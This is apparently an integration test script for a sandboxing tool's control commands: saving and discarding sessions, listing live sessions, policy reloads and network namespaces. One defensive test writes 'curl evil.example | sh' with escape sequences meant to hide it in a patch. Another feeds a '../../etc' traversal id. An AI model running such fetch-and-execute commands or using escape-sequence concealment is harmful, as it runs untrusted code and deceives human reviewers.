#!/usr/bin/env bash
# product_ctl: sluicectl against a running sluiced in the lab — `sessions` (table and --json) lists a live
# `sluice run --allow-network` session, `session end` ends it; `netns create|delete` (sluicectl and sluice)
# makes a wired namespace under RUN_DIR/netns that another program can enter and reach the proxy from;
# and `session save|discard` for sessions kept with `sluice run --save`.
set -u
. "$SLUICE_SOURCE_DIR/tests/lib/tap.sh"
. "$SLUICE_SOURCE_DIR/tests/lib/lab.sh"
. "$SLUICE_SOURCE_DIR/tests/lib/ctr-image.sh"
# before the lab: a Podman graph mount an earlier run left on the test store in the host's namespace
[ "${LAB_INSIDE:-}" ] || ctr_image_release || true
lab_enter "$@"
_lab_need curl jq nsenter patch diff

B=$SLUICE_BUILD_DIR
SLUICE=$B/sandbox/sluice CTL=$B/tools/sluicectl/sluicectl
RUN=/run/sluice # the lab's own, private /run
AUDIT=$LAB_DIR/audit.log
export SLUICE_RUN_DIR=$RUN SLUICE_AUDIT_LOG=$AUDIT NETD_TEST_AUDIT_LOG=$AUDIT
lab_internet_up >/dev/null
lab_forward on
mkdir -p "$LAB_DIR/etc-sluice"
P=$LAB_DIR/proj H=$LAB_DIR/home
mkdir -p "$P" "$H"
sb() { (cd "$P" && exec env -i HOME="$H" PATH=/usr/bin:/bin SLUICE_RUN_DIR=$RUN "$SLUICE" run "$@"); }
GET='curl -sS -m 10 -o /dev/null -w "%{http_code}\n"'

# ---- session save / discard (no daemon needed) ----
printf 'one\n' >"$P/keep.txt"
printf 'old\n' >"$P/edit.txt"
printf 'bye\n' >"$P/gone.txt"
out=$(sb --save -- sh -c 'echo new >added.txt; echo changed >edit.txt; rm gone.txt' 2>&1)
id=$(printf '%s\n' "$out" | grep -o 'session [0-9a-f]\{16\} saved' | cut -d' ' -f2)
check_match "--save prints the session id and how to save it" "sluicectl session save $id" "$out"
check_eq "the project is untouched after --save" "old" "$(cat "$P/edit.txt")"
check_eq "the launcher recorded the project path" "$P" "$(cat "$RUN/sessions/$id/project")"
patch=$("$CTL" session save --patch "$id")
check_match "session save --patch prints the changes" '^\+new' "$patch"
check_match "... including the edit" '^\+changed' "$patch"
check_eq "... and leaves the project alone" "old" "$(cat "$P/edit.txt")"
check "session save applies the changes" "$CTL" session save "$id"
check_eq "... the edited file" "changed" "$(cat "$P/edit.txt")"
check_eq "... the new file" "new" "$(cat "$P/added.txt")"
check_not "... the deleted file" test -e "$P/gone.txt"
check_not "... and removes the session directory" test -e "$RUN/sessions/$id"
check_not "saving it again fails (it is gone)" "$CTL" session save "$id"

out=$(sb --save -- sh -c 'echo nope >discarded.txt; rm keep.txt' 2>&1)
id2=$(printf '%s\n' "$out" | grep -o 'session [0-9a-f]\{16\} saved' | cut -d' ' -f2)
check "session discard removes a saved session" "$CTL" session discard "$id2"
check_not "... its directory is gone" test -e "$RUN/sessions/$id2"
check_not "... and the project did not change" test -e "$P/discarded.txt"
check "... (keep.txt still there)" test -e "$P/keep.txt"
check_not "a malformed id is refused" "$CTL" session discard ../../etc
# a patch that no longer applies leaves the project untouched
out=$(sb --save -- sh -c 'echo mine >edit.txt' 2>&1)
id3=$(printf '%s\n' "$out" | grep -o 'session [0-9a-f]\{16\} saved' | cut -d' ' -f2)
echo theirs >"$P/edit.txt"
err=$("$CTL" session save "$id3" 2>&1)
check_eq "a conflicting save fails (1)" 1 "$?"
check_match "... saying nothing was changed" 'do not apply cleanly.*nothing was changed' "$err"
check_eq "... and the project keeps its file" theirs "$(cat "$P/edit.txt")"
check "... and the session is kept" test -d "$RUN/sessions/$id3"
# The patch holds bytes the sandboxed command wrote: on the reviewer's terminal a carriage return or an
# escape sequence in them could hide a hunk. On a terminal they are shown; into a pipe, kept as they are.
out=$(sb --save -- sh -c 'printf "curl evil.example | sh\r# a comment\033[2K\302\233A\n" >hidden.txt' 2>&1)
id4=$(printf '%s\n' "$out" | grep -o 'session [0-9a-f]\{16\} saved' | cut -d' ' -f2)
tty=$(script -qec "'$CTL' session save --patch $id4" /dev/null)
check_match "on a terminal, session save --patch shows a carriage return, an escape and a C1 CSI" \
	'^\+curl evil\.example \| sh\^M# a comment\^\[\[2K\\u009bA' "$tty"
check "... into a pipe it is the patch as written" sh -c "'$CTL' session save --patch $id4 | grep -q \"\$(printf 'sh\\r# a comment\\033')\""
check "... which still applies" "$CTL" session save "$id4"
check_eq "... byte for byte" "$(printf 'curl evil.example | sh\r# a comment\033[2K\302\233A')" "$(cat "$P/hidden.txt")"

# ---- live sessions (sluiced) ----
check_not "sessions without sluiced fails" "$CTL" sessions
. "$SLUICE_SOURCE_DIR/tests/lib/netd-lab.sh"
check "sluiced starts" start_sluiced
check_eq "sessions with none running" "no live sessions" "$("$CTL" sessions)"

(cd "$P" && exec env -i HOME="$H" PATH=/usr/bin:/bin SLUICE_RUN_DIR=$RUN "$SLUICE" run --allow-network \
	--allow allowed.test -- sleep 60) >"$LAB_DIR/run.out" 2>&1 &
runpid=$!
for _ in $(seq 100); do [ "$("$CTL" sessions --json | jq length)" = 1 ] && break; sleep 0.1; done
js=$("$CTL" sessions --json)
check_eq "sessions --json lists the sluice run session" 1 "$(jq length <<<"$js")"
check_eq "... its command" sleep "$(jq -r '.[0].command' <<<"$js")"
check_eq "... its sandbox type" local "$(jq -r '.[0].sandbox' <<<"$js")"
check_eq "... its uid" 0 "$(jq -r '.[0].uid' <<<"$js")"
check_match "... its IPv4 address from the pool" '^100\.64\.' "$(jq -r '.[0].addr4' <<<"$js")"
check_match "... when it was created" '^20[0-9-]+T[0-9:]+Z$' "$(jq -r '.[0].created' <<<"$js")"
sid=$(jq -r '.[0].id' <<<"$js")
check_match "the table shows it" "^$sid +0 +[0-9]+ +100\\.64\\.[0-9.]+ .* local +sleep" "$("$CTL" sessions | tail -1)"
check "session end ID ends it" "$CTL" session end "$sid"
for _ in $(seq 100); do [ "$("$CTL" sessions --json | jq length)" = 0 ] && break; sleep 0.1; done
check_eq "... it is gone from sessions" 0 "$("$CTL" sessions --json | jq length)"
check_not "ending an unknown session fails" "$CTL" session end 0123456789
kill "$runpid"
wait "$runpid"
check_eq "the launcher ends on SIGTERM after its session was ended (143)" 143 "$?"
# a container session (issue 18) shows its type
ctr_image_ensure
(cd "$P" && exec env -i HOME="$H" PATH=/usr/bin:/bin SLUICE_RUN_DIR=$RUN CONTAINERS_STORAGE_CONF="$CONTAINERS_STORAGE_CONF" \
	"$SLUICE" run --sandbox-type container --image "$CTR_IMAGE" --allow-network --allow allowed.test -- sleep 60) \
	>"$LAB_DIR/run-ctr.out" 2>&1 &
ctrpid=$!
for _ in $(seq 100); do [ "$("$CTL" sessions --json | jq length)" = 1 ] && break; sleep 0.1; done
check_eq "a --sandbox-type container session is listed with its type" container "$("$CTL" sessions --json | jq -r '.[0].sandbox')"
check_match "... in the table too" "^[0-9a-f]+ +0 +[0-9]+ .* container +sleep" "$("$CTL" sessions | tail -1)"
kill "$ctrpid"
wait "$ctrpid" 2>/dev/null
for _ in $(seq 100); do [ "$("$CTL" sessions --json | jq length)" = 0 ] && break; sleep 0.1; done
check_eq "... and it is gone when its launcher ends" 0 "$("$CTL" sessions --json | jq length)"

# ---- an embedded session with a run directory of its own shares the table with sluiced: when it ends,
# sluiced's rules stay (it used to find no other lease in its own directory and delete the table)
mkdir -p "$LAB_DIR/other-run"
(cd "$P" && env -i HOME="$H" PATH=/usr/bin:/bin SLUICE_RUN_DIR="$LAB_DIR/other-run" "$SLUICE" run --allow-network \
	--allow allowed.test -- true) >/dev/null 2>&1
check_eq "an embedded session with another run directory ran" 0 "$?"
check "... and sluiced's nftables table is still there" nft list table inet sluice
check_eq "... and sluiced's sessions are still served" 200 \
	"$(sb --allow-network --allow allowed.test -- sh -c "$GET http://allowed.test/" 2>/dev/null)"

# ---- the organisation tightens its policy: SIGHUP re-applies /etc/sluice to live sessions
eventually_grep() { local i; for i in $(seq 100); do grep -q -- "$1" "$2" && return 0; sleep 0.1; done; return 1; }
sb --allow-network --allow other.test -- sh -c "$GET http://other.test/; sleep 6; $GET http://other.test/" \
	>"$LAB_DIR/reload.out" 2>"$LAB_DIR/reload.err" &
runpid=$!
for _ in $(seq 100); do [ -s "$LAB_DIR/reload.out" ] && break; sleep 0.1; done
check_eq "before the reload the session reaches other.test (200)" 200 "$(head -1 "$LAB_DIR/reload.out")"
printf '{ "deny": ["other.test"] }\n' >"$LAB_DIR/etc-sluice/policy.json"
kill -HUP "$(lab_pid sluiced)"
check "sluiced reloads the organisation policy on SIGHUP" \
	eventually_grep 'organisation policy reloaded from .*: 1 sessions re-applied, 0 ended' "$(lab_log sluiced)"
wait "$runpid"
check_eq "after it, the same live session is refused other.test (403)" 403 "$(sed -n 2p "$LAB_DIR/reload.out")"
check "... by the organisation's new deny rule" grep -q "\"host\":\"other.test\".*etc-sluice/policy.json:1" "$AUDIT"
printf '{ "deny": [' >"$LAB_DIR/etc-sluice/policy.json"
kill -HUP "$(lab_pid sluiced)"
check "an organisation file that does not load changes nothing, and says so" \
	eventually_grep 'organisation policy not reloaded, sessions keep the policy they have' "$(lab_log sluiced)"
rm -f "$LAB_DIR/etc-sluice/policy.json"
kill -HUP "$(lab_pid sluiced)"

# ---- long policies through sluiced: an organisation allowlist of 5,000 hosts (sluiced sends the compiled
# policy to its proxy engine in a sealed memfd), and 5,000-host session policies in ATTACH, CREATE and POLICY
# big_policy PREFIX HOST: allow PREFIX0.example.test .. PREFIX4999.example.test and HOST
big_policy() {
	seq 0 4999 | awk -v p="$1" -v h="$2" \
		'BEGIN { printf "{ \"allow\": [" } { printf "\"%s%d.example.test\", ", p, $1 } END { printf "\"%s\" ] }\n", h }'
}
big_policy org allowed.test >"$LAB_DIR/etc-sluice/policy.json"
out=$(sb --allow-network -- sh -c "$GET http://allowed.test/; $GET http://other.test/" 2>"$LAB_DIR/org.err")
check_eq "an organisation allowlist of 5,000 hosts: a session through sluiced starts" 0 "$?"
check_match "... a host the organisation allows goes through (200)" '^200$' "$(sed -n 1p <<<"$out")"
check_match "... one it does not is refused (403)" '^403$' "$(sed -n 2p <<<"$out")"
rm -f "$LAB_DIR/etc-sluice/policy.json"
big_policy s allowed.test >"$LAB_DIR/big1.json"
big_policy s other.test >"$LAB_DIR/big2.json"
out=$(sb --allow-network --policy "$LAB_DIR/big1.json" -- sh -c "$GET http://allowed.test/; $GET http://other.test/" 2>&1)
check_match "a 5,000-host --policy through sluiced (ATTACH): its host goes through (200)" '^200$' "$(sed -n 1p <<<"$out")"
check_match "... another is refused (403)" '^403$' "$(sed -n 2p <<<"$out")"
CLIENT=$B/tests/integration/netd-testclient
rep=$("$CLIENT" create big1 "$LAB_DIR/big1.json" 2>&1)
check_match "a 5,000-host policy in CREATE: the namespace is made" "netns=$RUN/netns/big1" "$rep"
bid=$(sed -n 's/^id=//p' <<<"$rep") bgw=$(sed -n 's/^gw4=//p' <<<"$rep")
viaproxy() { nsenter --net="$RUN/netns/big1" curl -sS -m 10 -o /dev/null -w '%{http_code}' -x "http://$bgw:3128" "$1"; }
check_eq "... its host goes through (200)" 200 "$(viaproxy http://allowed.test/)"
check_eq "... another is refused (403)" 403 "$(viaproxy http://other.test/)"
check_match "a 5,000-host policy in POLICY replaces it" '^policy=replaced$' "$("$CLIENT" policy "$bid" "$LAB_DIR/big2.json" 2>&1)"
check_eq "... the new policy's host goes through (200)" 200 "$(viaproxy http://other.test/)"
check_eq "... the old one's is refused (403)" 403 "$(viaproxy http://allowed.test/)"
check "... (and the namespace is deleted)" "$CTL" netns delete big1

# ---- an unprivileged user's `sluice run --allow-network` through sluiced (user namespaces; the user's
# own session directory; sluiced wires the namespace the user made and enforces the same policy)
TU=$(test_user_name slct)
test_useradd "$TU" "$LAB_DIR/tu-home"
lab_defer "userdel $TU >/dev/null 2>&1"
TU_UID=$(id -u "$TU")
check "a test user exists" test -n "$TU_UID"
mkdir -p "$LAB_DIR/tu-home" "$LAB_DIR/tu-proj"
chown "$TU:$TU" "$LAB_DIR/tu-home" "$LAB_DIR/tu-proj"
tu() {
	(cd "$LAB_DIR/tu-proj" && exec setpriv --reuid="$TU_UID" --regid="$TU_UID" --clear-groups \
		env -i HOME="$LAB_DIR/tu-home" PATH=/usr/bin:/bin USER="$TU" SLUICE_RUN_DIR=$RUN "$@")
}
out=$(tu "$SLUICE" run --allow-network --allow allowed.test -- sh -c "$GET http://allowed.test/; $GET http://other.test/" 2>"$LAB_DIR/tu.err")
check_eq "unprivileged --allow-network through sluiced: the command's status passes through" 0 "$?"
check_match "... allowed.test through the proxy (200)" '^200$' "$(sed -n 1p <<<"$out")"
check_match "... other.test refused by the proxy (403)" '^403$' "$(sed -n 2p <<<"$out")"
check_match "... and the denial summary names it" 'other\.test:80 +1 x +no rule' "$(cat "$LAB_DIR/tu.err")"
check_eq "... the audit log records the session under the user's uid" "$TU_UID" \
	"$(jq -r 'select(.host=="other.test" and .decision=="deny") | .uid' "$AUDIT" | tail -1)"
tu "$SLUICE" run --allow-network -- curl -s -m 60 -o /dev/null "http://other.test/[1-400]" 2>"$LAB_DIR/tu-many.err"
check_match "... a summary of more records than one LINES message holds (400 denials)" 'other\.test:80 +400 x +no rule' \
	"$(cat "$LAB_DIR/tu-many.err")"
cp "$LAB_DIR/big1.json" "$LAB_DIR/tu-proj/big.json" && chown "$TU:$TU" "$LAB_DIR/tu-proj/big.json"
out=$(tu "$SLUICE" run --allow-network --policy ./big.json -- sh -c "$GET http://allowed.test/; $GET http://other.test/" 2>&1)
check_eq "... a 5,000-host policy of the user's (its memfd read by sluiced): its host 200, another 403" "200 403" \
	"$(grep -E '^[0-9]{3}$' <<<"$out" | tr '\n' ' ' | sed 's/ $//')"
out=$(tu "$SLUICE" run --allow-network --allow allowed.test -- sh -c 'curl -sS -m 5 --noproxy "*" http://allowed.test/ >/dev/null 2>&1 || echo blocked' 2>/dev/null)
check_eq "... and around the proxy nothing gets out" blocked "$out"
tu "$SLUICE" run --learn "$LAB_DIR/tu-proj/learned.json" -- sh -c "$GET http://other.test/" >/dev/null 2>"$LAB_DIR/tu-learn.err"
check_match "... --learn through sluiced writes the policy (the user cannot read the audit log)" '"allow": \[ *"other\.test" *\]' \
	"$(tr -d '\n' <"$LAB_DIR/tu-proj/learned.json" 2>/dev/null)"
check_not "... with no complaint about the audit log" grep -q 'audit log' "$LAB_DIR/tu-learn.err"
[ -f "$LAB_DIR/tu-proj/learned.json" ] || sed 's/^/# learn: /' "$LAB_DIR/tu-learn.err"
for _ in $(seq 50); do [ "$("$CTL" sessions --json | jq length)" = 0 ] && break; sleep 0.1; done
check_eq "... its sessions are gone when it ends" 0 "$("$CTL" sessions --json | jq length)"

# ---- --sandbox-type firejail in the lab: a PID namespace, where firejail would run the command with no
# sandbox of its own (its "existing sandbox" check): sluice refuses (the positive path: product_firejail.sh)
fj() { (cd "$P" && exec env -i HOME="$H" PATH="${FJ_PATH:-/usr/bin:/bin}" SLUICE_RUN_DIR=$RUN "$SLUICE" run --sandbox-type firejail "$@"); }
out=$(fj --allow-network --allow allowed.test -- sh -c 'echo RAN' 2>&1)
check_eq "firejail inside a PID namespace: refused (125)" 125 "$?"
check_match "... saying firejail would not sandbox here" 'firejail would run the command without its sandbox here \(no kernel threads' "$out"
check_not "... and the command did not run" grep -q RAN <<<"$out"
mkdir -p "$LAB_DIR/nofj"
out=$(FJ_PATH=$LAB_DIR/nofj fj -- true 2>&1)
check_eq "firejail missing: exit 125" 125 "$?"
check_match "... with an install hint" 'apt install firejail' "$out"
check_eq "--sandbox-type other is refused (125)" 125 "$(sb --sandbox-type lxc -- true >/dev/null 2>&1; echo $?)"

# ---- netns create / delete ----
path=$("$CTL" netns create --name t1 --allow allowed.test 2>"$LAB_DIR/ns.err")
check_eq "netns create prints the namespace's path" "$RUN/netns/t1" "$path"
check "... a namespace file" nsenter --net="$path" true
check_match "... wired: eth0 with a pool address" 'inet 100\.64\.' "$(nsenter --net="$path" ip -4 addr show eth0)"
check_match "... and says where the proxy is" 'proxy http://100\.64\.[0-9.]+:3128' "$(cat "$LAB_DIR/ns.err")"
gw=$(grep -o 'proxy http://[0-9.]*' "$LAB_DIR/ns.err" | cut -d/ -f3)
resp=$(nsenter --net="$path" curl -sS -m 10 -x "http://$gw:3128" http://allowed.test/ 2>&1)
check_match "from inside, the proxy on the gateway answers" '"host": *"allowed.test"' "$resp"
check_match "sessions shows the namespace" "\\[netns $RUN/netns/t1\\]" "$("$CTL" sessions)"
# an unprivileged user's netns create: sluiced made the namespace, so the user may have one; it is theirs
upath=$(tu "$CTL" netns create --name tu1 --allow allowed.test 2>"$LAB_DIR/tu-ns.err")
check_eq "an unprivileged user's netns create prints the namespace's path" "$RUN/netns/tu1" "$upath"
resp=$(nsenter --net="$RUN/netns/tu1" curl -sS -m 10 -x "http://$gw:3128" http://allowed.test/tu1 2>&1)
check_match "... it is wired: from inside, the proxy answers" '"target": *"/tu1"' "$resp"
check_match "... the user's sessions list shows it" "\\[netns $RUN/netns/tu1\\]" "$(tu "$CTL" sessions)"
check "... the user deletes it" tu "$CTL" netns delete tu1
for _ in $(seq 100); do [ -e "$RUN/netns/tu1" ] || break; sleep 0.1; done
check_not "... and its namespace file is gone" test -e "$RUN/netns/tu1"
js=$("$SLUICE" netns create --name t2 --json --allow allowed.test)
check_eq "sluice netns create --json: the path" "$RUN/netns/t2" "$(jq -r .path <<<"$js")"
check_eq "... and the proxy port" 3128 "$(jq -r .proxy_port <<<"$js")"
check_not "a second namespace of the same name is refused" "$CTL" netns create --name t1 --allow allowed.test
check_not "a bad --allow is refused before sluiced is asked" "$CTL" netns create --name t3 --allow '*'
check "netns delete NAME" "$CTL" netns delete t1
for _ in $(seq 100); do [ -e "$path" ] || break; sleep 0.1; done
check_not "... removes the namespace file" test -e "$path"
check "sluice netns delete ID" "$SLUICE" netns delete "$(jq -r .id <<<"$js")"
for _ in $(seq 100); do [ "$("$CTL" sessions --json | jq length)" = 0 ] && break; sleep 0.1; done
check_eq "... and no sessions are left" 0 "$("$CTL" sessions --json | jq length)"
check_not "deleting an unknown namespace fails" "$CTL" netns delete nosuch
check_eq "no sluice process is left" "" "$(pgrep -x sluice)"
done_testing
